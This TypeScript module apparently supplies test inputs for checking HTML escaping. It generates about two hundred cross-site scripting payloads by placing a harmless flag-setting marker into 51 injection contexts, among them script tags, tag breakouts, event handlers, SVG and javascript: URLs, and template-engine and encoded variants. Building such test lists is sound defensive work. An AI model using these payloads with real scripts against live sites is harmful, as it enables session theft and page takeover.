/** What a payload does where it runs: each sets the same mark, whatever the quotes around it. */
const MARK = 'window.pris=1';

const escaped = (text: string): string =>
  [...text].map((letter) => `&#${letter.codePointAt(0) ?? 0};`).join('');

/** Ways of writing the same act. */
const ACTS = [MARK, `top['pris']=1`, `eval('${MARK}')`, escaped(MARK)];

/** Places where markup that is not escaped would run one. */
const PLACES: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `</script><script>${act}</script>`,
  (act) => `<ScRiPt >${act}</sCrIpT>`,
  (act) => `</title><script>${act}</script>`,
  (act) => `</style><script>${act}</script>`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `--><script>${act}</script>`,
  (act) => `]]><script>${act}</script>`,
  (act) => `<img src=x onerror=${act}>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<img/src=x/onerror='${act}'>`,
  (act) => `"><img src=x onerror=${act}>`,
  (act) => `'><img src=x onerror=${act}>`,
  (act) => `" onmouseover="${act}`,
  (act) => `' onfocus='${act}' autofocus='`,
  (act) => `" autofocus onfocus="${act}" x="`,
  (act) => `<svg onload=${act}>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  (act) => `<svg><set onbegin=${act} attributeName=x to=1>`,
  (act) => `<svg><foreignObject><img src=x onerror=${act}></foreignObject></svg>`,
  (act) => `<svg><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
  (act) => `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
  (act) => `<body onload=${act}>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<a href="javascript:${act}">x</a>`,
  (act) => `<a href="java\tscript:${act}">x</a>`,
  (act) => `<form action="javascript:${act}"><button>x</button></form>`,
  (act) => `<button formaction="javascript:${act}">x</button>`,
  (act) => `<input onfocus=${act} autofocus>`,
  (act) => `<select onfocus=${act} autofocus></select>`,
  (act) => `<details open ontoggle=${act}>x</details>`,
  (act) => `<video><source onerror=${act}></video>`,
  (act) => `<audio src=x onerror=${act}></audio>`,
  (act) => `<marquee onstart=${act}>x</marquee>`,
  (act) => `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  (act) => `<base href="javascript:${act}//">`,
  (act) => `<link rel=stylesheet href="data:text/css,*{x:expression(${act})}">`,
  (act) => `<style>@import "javascript:${act}";</style>`,
  (act) => `<div style="background:url(javascript:${act})">x</div>`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `{@html '<script>${act}</script>'}`,
  (act) => `\${${act}}`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `javascript:${act}`,
  (act) => `\u2028<script>${act}</script>`,
  (act) => `%3Cscript%3E${act}%3C/script%3E`,
];

/** Two hundred texts that would run a script wherever a page forgot to escape one. */
export const SCRIPT_PAYLOADS: readonly string[] = PLACES.flatMap((place) => ACTS.map(place));
